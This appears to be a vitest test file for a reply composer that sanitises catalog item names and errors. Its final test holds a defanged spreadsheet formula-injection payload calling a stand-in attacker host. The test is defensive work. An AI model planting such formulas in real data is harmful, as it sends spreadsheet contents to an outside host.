import { describe, expect, it } from 'vitest'
import { HOSTILE_ERROR, LINKS_AND_MARKUP, PASSED_NEUTRALISED } from '../text/hostile-text.test-support'
import type { ReplySubject } from './advise'
import { composeReply, type ComposeOptions } from './compose-reply'
import { SITUATIONS } from './situations'
import type { TemplateOverrides } from './templates'
import { NOW, known, ok, replyItem } from './reply-items.test-support'

/**
 * What a reply takes from the catalog: an item's values only where a template asked for them
 * (R5-7), and never hidden, linked, marked-up or credentialed (R5-8).
 */

const OPTIONS: ComposeOptions = { language: 'en', now: NOW, catalogTimeZone: null }

const subject = (name: string, error: string | null = null, id = 1042): ReplySubject => ({
  kind: 'item',
  item: replyItem(
    known(error ? 'WAITING_FOR_SEND' : 'TRADE_ACCEPTED'),
    {
      name: ok(name),
      error_message: ok(error),
    },
    id,
  ),
})

/** Every situation's box saying the item's name and its error. */
const SAYING_ERRORS: TemplateOverrides = Object.fromEntries(
  SITUATIONS.map((situation) => [situation.id, '{name} (ID {id}): {error}']),
)

describe('R5-8: catalog text in Copy reply', () => {
  it.each(LINKS_AND_MARKUP)('a name %j is said inert', (name, inert) => {
    const text = composeReply([subject(name)], OPTIONS).text
    expect(text).toContain(inert)
    if (name !== inert) expect(text).not.toContain(name)
  })

  it.each(LINKS_AND_MARKUP)('an error %j is said inert where a box asks for it', (error, inert) => {
    const text = composeReply([subject('Glove Case', error)], { ...OPTIONS, templates: SAYING_ERRORS }).text
    expect(text).toContain(inert)
  })

  it.each(Object.entries(PASSED_NEUTRALISED))('drops a %s from a name and an error', (_what, char) => {
    const text = composeReply([subject(`AK-47 ${char}| Red${char}line`, `Trade ${char}declined`)], {
      ...OPTIONS,
      templates: SAYING_ERRORS,
    }).text
    expect(text).toContain('AK-47 | Redline (ID 1042): Trade declined')
    expect(text).not.toContain(char)
  })

  it('a formula in an error stays text in a reply: it is only a spreadsheet’s concern', () => {
    const text = composeReply([subject('Glove Case', HOSTILE_ERROR)], {
      ...OPTIONS,
      templates: SAYING_ERRORS,
    })
    expect(text.text).toContain('=HYPERLINK("https[:]//evil[.]example/?"&A1,"Refund")')
  })
})
